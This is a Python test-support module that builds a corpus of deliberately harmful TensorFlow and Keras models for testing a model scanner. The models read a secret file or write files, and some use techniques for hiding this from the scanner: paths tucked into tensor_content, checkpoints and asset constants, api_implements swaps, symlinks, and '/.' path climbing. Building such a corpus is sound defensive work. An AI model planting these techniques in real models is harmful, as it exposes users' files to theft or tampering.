"""The harmful half of the scan corpus: each payload in several hiding places, then the
tricks (a path in ``tensor_content``, in a variable, behind a TF1 asset, in the
checkpoint restore function, behind ``api_implements``, links out of the model folder,
and ``.keras`` archives).

Example:
    >>> from hublayer.testing._scan_corpus_ops import PLACES
    >>> _places("ReadFile", 0)[:2]
    ('call', 'signature')
"""

from __future__ import annotations

import os
import shutil
import tempfile
from collections.abc import Callable
from pathlib import Path

import tensorflow as tf

from hublayer.testing._scan_corpus import CorpusModel
from hublayer.testing._scan_corpus_ops import PAYLOADS, PLACES, Payload, Targets, hide
from hublayer.testing._scan_corpus_protos import (
    add_restore_write,
    move_string_to_tensor_content,
    retarget_tf1_asset,
)

__all__ = ["TRICK_NAMES", "build_harmful", "harmful_names", "op_plan"]

SPEC = tf.TensorSpec([None, 4], tf.float32, name="x")
#: The ops in all three published lists go in every place; the others in two.
_EVERY_PLACE = ("ReadFile", "WriteFile", "PrintV2")
TRICK = "trick"


def _places(op: str, index: int) -> tuple[str, ...]:
    if op in _EVERY_PLACE:
        return PLACES
    others = PLACES[1:]
    return (
        (PLACES[0], others[index % len(others)])
        if index % 2 == 0
        else (
            others[index % len(others)],
            others[(index + 2) % len(others)],
        )
    )


def _save_module(
    path: Path,
    forward: Callable[[tf.Tensor], dict[str, tf.Tensor]],
    place: str,
    root: tf.Module,
) -> None:
    """Save ``root`` with ``forward`` as ``__call__`` (and/or signature, per ``place``)."""
    if place == "signature":
        root.__call__ = tf.function(
            lambda x: {"y": x * root.w, "s": tf.constant("")}, input_signature=[SPEC]
        )
        root.serve = tf.function(forward, input_signature=[SPEC], autograph=False)
        signatures = {"serving_default": root.serve}
    else:
        root.__call__ = tf.function(forward, input_signature=[SPEC], autograph=False)
        signatures = {} if place == "call" else {"serving_default": root.__call__}
    tf.saved_model.save(root, str(path), signatures=signatures)


def op_model(path: Path, payload: Payload, place: str, targets: Targets) -> None:
    """A model whose ``place`` runs ``payload``; outputs ``{"y": x * w, "s": string}``."""
    root = tf.Module()
    root.w = tf.Variable(tf.ones([4]))

    def forward(x: tf.Tensor) -> dict[str, tf.Tensor]:
        return {"y": x * root.w, "s": hide(place, lambda: payload.build(targets), x)}

    _save_module(path, forward, place, root)


def _model(
    name: str,
    path: Path,
    payload: Payload,
    place: str,
    targets: Targets,
    secret: Path,
    **extra: object,
) -> CorpusModel:
    victim = Path(targets.at(payload.victim or "unused"))
    fields: dict[str, object] = {
        "name": name,
        "path": path,
        "harmful": True,
        "op": payload.op,
        "place": place,
        "sources": payload.sources,
        "effect": payload.effect,
        "victim": victim,
        "secret": secret,
        "setup": payload.setup,
    }
    fields.update(extra)
    return CorpusModel(**fields)  # type: ignore[arg-type]


# ------------------------------------------------------------------ tricks


def _path_variable(path: Path, t: Targets, *, assigned: bool) -> None:
    """The secret's path held in a string variable: assigned in the function, or only in
    the checkpoint (the graph never holds the path)."""
    root = tf.Module()
    root.w = tf.Variable(tf.ones([4]))
    root.p = tf.Variable("" if assigned else t.secret)

    def forward(x: tf.Tensor) -> dict[str, tf.Tensor]:
        if assigned:
            root.p.assign(
                tf.strings.join([os.path.dirname(t.secret), "/", os.path.basename(t.secret)])
            )
        return {"y": x * root.w, "s": tf.io.read_file(root.p.read_value())}

    _save_module(path, forward, "call", root)


def _tf1_asset(path: Path, t: Targets) -> None:
    """A TF1 model that reads its listed asset; then the Const moves to the secret's path."""
    with tempfile.TemporaryDirectory() as scratch:
        vocab = Path(scratch) / "vocab.txt"
        vocab.write_text("a\nb\n")
        graph = tf.Graph()
        with graph.as_default():
            x = tf.compat.v1.placeholder(tf.float32, [None, 4], name="x")
            asset = tf.constant(str(vocab), name="asset_path")
            tf.compat.v1.add_to_collection(tf.compat.v1.GraphKeys.ASSET_FILEPATHS, asset)
            text = tf.io.read_file(asset)
            signature = tf.compat.v1.saved_model.predict_signature_def(
                {"x": x}, {"y": tf.identity(x), "s": text}
            )
            with tf.compat.v1.Session(graph=graph) as session:
                builder = tf.compat.v1.saved_model.Builder(str(path))
                builder.add_meta_graph_and_variables(
                    session,
                    ["serve"],
                    signature_def_map={"serving_default": signature},
                    assets_collection=tf.compat.v1.get_collection(
                        tf.compat.v1.GraphKeys.ASSET_FILEPATHS
                    ),
                )
                builder.save()
    retarget_tf1_asset(path / "saved_model.pb", "asset_path", t.secret)


def _api_implements(path: Path, t: Targets) -> None:
    """``__call__`` calls a clean function preferring GPU; a WriteFile twin that prefers
    CPU, with the same ``api_implements``, rides along in the library for grappler."""
    attributes = {"api_implements": "hublayer_corpus_op"}
    clean = tf.function(
        lambda x: x * 2.0,
        experimental_attributes={**attributes, "api_preferred_device": "GPU"},
    )

    def evil_body(x: tf.Tensor) -> tf.Tensor:
        with tf.control_dependencies([tf.io.write_file(t.at("created.txt"), "pwned")]):
            return x * 2.0

    evil = tf.function(
        evil_body, experimental_attributes={**attributes, "api_preferred_device": "CPU"}
    )
    root = tf.Module()
    root.w = tf.Variable(tf.ones([4]))

    def forward(x: tf.Tensor) -> dict[str, tf.Tensor]:
        evil.get_concrete_function(SPEC).add_to_graph()
        return {"y": clean(x) * root.w, "s": tf.constant("")}

    _save_module(path, forward, "call", root)


def _asset_model(path: Path, asset_name: str) -> None:
    """A model that reads its own asset through TextLineDataset (a clean pattern)."""
    with tempfile.TemporaryDirectory() as scratch:
        file = Path(scratch) / asset_name
        file.write_text("placeholder\n")
        root = tf.Module()
        root.w = tf.Variable(tf.ones([4]))
        root.vocab = tf.saved_model.Asset(str(file))

        def forward(x: tf.Tensor) -> dict[str, tf.Tensor]:
            lines = tf.data.TextLineDataset(root.vocab.asset_path)
            return {"y": x * root.w, "s": lines.reduce(tf.constant(""), lambda a, b: a + b)}

        _save_module(path, forward, "call", root)


def _label_model(path: Path) -> None:
    """A model that outputs a string variable (its checkpoint is moved out later)."""
    root = tf.Module()
    root.w = tf.Variable(tf.ones([4]))
    root.label = tf.Variable("cat")

    def forward(x: tf.Tensor) -> dict[str, tf.Tensor]:
        return {"y": x * root.w, "s": root.label.read_value()}

    _save_module(path, forward, "call", root)


def _tricks(
    folder: Path, secret: Path, victims: Path, want: Callable[[str], bool]
) -> list[CorpusModel]:
    from hublayer.testing import _scan_corpus_keras

    built: list[CorpusModel] = []
    read, write, text = PAYLOADS["ReadFile"], PAYLOADS["WriteFile"], PAYLOADS["TextLineDataset"]

    def targets(name: str) -> Targets:
        return Targets(str(secret), str(victims / name))

    name = "ReadFile--tensor_content"
    if want(name):
        op_model(folder / name, read, "call", targets(name))
        move_string_to_tensor_content(folder / name / "saved_model.pb", str(secret))
        built.append(_model(name, folder / name, read, "tensor_content", targets(name), secret))
    for assigned, place in ((True, "variable_assigned"), (False, "variable_checkpoint")):
        name = f"ReadFile--{place}"
        if want(name):
            _path_variable(folder / name, targets(name), assigned=assigned)
            built.append(_model(name, folder / name, read, place, targets(name), secret))
    name = "ReadFile--tf1_asset_const"
    if want(name):
        _tf1_asset(folder / name, targets(name))
        built.append(_model(name, folder / name, read, "tf1_asset_const", targets(name), secret))
    name = "WriteFile--traced_restore"
    if want(name):
        t = targets(name)
        _label_model(folder / name)
        add_restore_write(folder / name / "saved_model.pb", t.at("restored.txt"))
        created = Payload("WriteFile", write.sources, "create", "restored.txt", write.build)
        built.append(
            _model(name, folder / name, created, "traced_restore", t, secret, loader="tf1_session")
        )
    name = "WriteFile--api_implements"
    if want(name):
        _api_implements(folder / name, targets(name))
        created = Payload("WriteFile", write.sources, "create", "created.txt", write.build)
        built.append(_model(name, folder / name, created, "api_implements", targets(name), secret))
    name = "TextLineDataset--assets_symlink"
    if want(name):
        _asset_model(folder / name, secret.name)
        shutil.rmtree(folder / name / "assets")
        (folder / name / "assets").symlink_to(secret.parent, target_is_directory=True)
        built.append(
            _model(
                name, folder / name, text, "assets_symlink", targets(name), secret, sources=(TRICK,)
            )
        )
    name = "TextLineDataset--asset_hardlink"
    if want(name):
        _asset_model(folder / name, secret.name)
        (folder / name / "assets" / secret.name).unlink()
        os.link(secret, folder / name / "assets" / secret.name)
        built.append(
            _model(
                name, folder / name, text, "asset_hardlink", targets(name), secret, sources=(TRICK,)
            )
        )
    name = "RestoreV2--variables_symlink"
    if want(name):
        _label_model(folder / name)
        outside = victims / f"{name}-variables"
        shutil.rmtree(outside, ignore_errors=True)
        shutil.move(str(folder / name / "variables"), outside)
        (folder / name / "variables").symlink_to(outside, target_is_directory=True)
        restore = Payload("RestoreV2", (TRICK,), "leak", "", read.build, "variables_outside")
        built.append(
            _model(
                name,
                folder / name,
                restore,
                "variables_symlink",
                targets(name),
                secret,
                extra={"checkpoint": str(outside / "variables")},
            )
        )
    built += value_tricks(folder, secret, victims, want)
    built += _scan_corpus_keras.build_keras_tricks(folder, secret, victims, want)
    return built


#: The tricks, by name, in build order.
TRICK_NAMES: tuple[str, ...] = (
    "ReadFile--tensor_content",
    "ReadFile--variable_assigned",
    "ReadFile--variable_checkpoint",
    "ReadFile--tf1_asset_const",
    "WriteFile--traced_restore",
    "WriteFile--api_implements",
    "TextLineDataset--assets_symlink",
    "TextLineDataset--asset_hardlink",
    "RestoreV2--variables_symlink",
    "ReadFile--asset_regex_replace",
    "ReadFile--asset_dotdot_split",
    "ReadFile--tf1_variable_initializer",
    "WriteFile--keras_member_dot",
    "WriteFile--keras_safe_mode_false",
    "WriteFile--keras_outside_handle",
    "Lambda--keras_lambda",
)


def op_plan() -> list[tuple[str, Payload, str]]:
    """(name, payload, place) of every op model, in build order."""
    return [
        (f"{payload.op}--{place}", payload, place)
        for index, payload in enumerate(PAYLOADS.values())
        for place in _places(payload.op, index)
    ]


def harmful_names() -> list[str]:
    """The names of every harmful model ``build_harmful`` makes (without building)."""
    return [name for name, _, _ in op_plan()] + list(TRICK_NAMES)


def build_harmful(
    folder: Path, secret: Path, victims: Path, wanted: set[str] | None
) -> list[CorpusModel]:
    """Every op in its places, then the tricks; built, not proven."""

    def want(name: str) -> bool:
        return wanted is None or name in wanted

    folder.mkdir(parents=True, exist_ok=True)
    built = []
    for name, payload, place in op_plan():
        if not want(name):
            continue
        targets = Targets(str(secret), str(victims / name))
        op_model(folder / name, payload, place, targets)
        built.append(_model(name, folder / name, payload, place, targets, secret))
    return built + _tricks(folder, secret, victims, want)


# ------------------------------------------------------- tricks on value proofs


def _asset_derived(path: Path, t: Targets, how: str) -> None:
    """ReadFile of a path *computed from* the model's own asset path.

    ``regex_replace``: the asset path rewritten to the secret's. ``dotdot_split``: the
    asset (made a folder after saving) joined with ``/.`` and ``.`` constants, none of
    which holds a ``..`` part, that together climb to ``/``, then the secret's path.
    """
    with tempfile.TemporaryDirectory() as scratch:
        file = Path(scratch) / "vocab.txt"
        file.write_text("the\n")
        root = tf.Module()
        root.w = tf.Variable(tf.ones([4]))
        root.vocab = tf.saved_model.Asset(str(file))

        def forward(x: tf.Tensor) -> dict[str, tf.Tensor]:
            asset = root.vocab.asset_path
            if how == "regex_replace":
                target = tf.strings.regex_replace(asset, "^.*$", t.secret)
            else:
                climb = ["/.", "."] * 64
                target = tf.strings.join([asset, *climb, t.secret])
            return {"y": x * root.w, "s": tf.io.read_file(target)}

        _save_module(path, forward, "call", root)
    if how == "dotdot_split":
        (path / "assets" / "vocab.txt").unlink()
        (path / "assets" / "vocab.txt").mkdir()


def _tf1_variable_initializer(path: Path, t: Targets) -> None:
    """A TF1 model whose path variable is *initialized* from its asset (so it looks
    proven), while its checkpoint holds the secret's path: the loader restores the
    checkpoint and never runs the initializer."""
    with tempfile.TemporaryDirectory() as scratch:
        vocab = Path(scratch) / "vocab.txt"
        vocab.write_text("the\n")
        graph = tf.Graph()
        with graph.as_default():
            x = tf.compat.v1.placeholder(tf.float32, [None, 4], name="x")
            asset = tf.constant(str(vocab), name="asset_path")
            tf.compat.v1.add_to_collection(tf.compat.v1.GraphKeys.ASSET_FILEPATHS, asset)
            holder = tf.compat.v1.get_variable(
                "holder", initializer=asset, use_resource=True, trainable=False
            )
            signature = tf.compat.v1.saved_model.predict_signature_def(
                {"x": x}, {"y": tf.identity(x), "s": tf.io.read_file(holder.read_value())}
            )
            with tf.compat.v1.Session(graph=graph) as session:
                session.run(holder.initializer)
                builder = tf.compat.v1.saved_model.Builder(str(path))
                builder.add_meta_graph_and_variables(
                    session,
                    ["serve"],
                    signature_def_map={"serving_default": signature},
                    assets_collection=tf.compat.v1.get_collection(
                        tf.compat.v1.GraphKeys.ASSET_FILEPATHS
                    ),
                )
                builder.save()
    prefix = str(path / "variables" / "variables")
    reader = tf.train.load_checkpoint(prefix)
    names = sorted(reader.get_variable_to_shape_map())
    values = [
        tf.constant(t.secret) if name == "holder" else tf.constant(reader.get_tensor(name))
        for name in names
    ]
    tf.raw_ops.SaveV2(
        prefix=prefix, tensor_names=names, shape_and_slices=[""] * len(names), tensors=values
    )


def value_tricks(
    folder: Path, secret: Path, victims: Path, want: Callable[[str], bool]
) -> list[CorpusModel]:
    """Paths derived from a proven root, and a variable whose proof is its initializer."""
    built: list[CorpusModel] = []
    read = PAYLOADS["ReadFile"]
    for how in ("regex_replace", "dotdot_split"):
        name = f"ReadFile--asset_{how}"
        if want(name):
            targets = Targets(str(secret), str(victims / name))
            _asset_derived(folder / name, targets, how)
            built.append(_model(name, folder / name, read, f"asset_{how}", targets, secret))
    name = "ReadFile--tf1_variable_initializer"
    if want(name):
        targets = Targets(str(secret), str(victims / name))
        _tf1_variable_initializer(folder / name, targets)
        built.append(_model(name, folder / name, read, "tf1_variable_initializer", targets, secret))
    return built
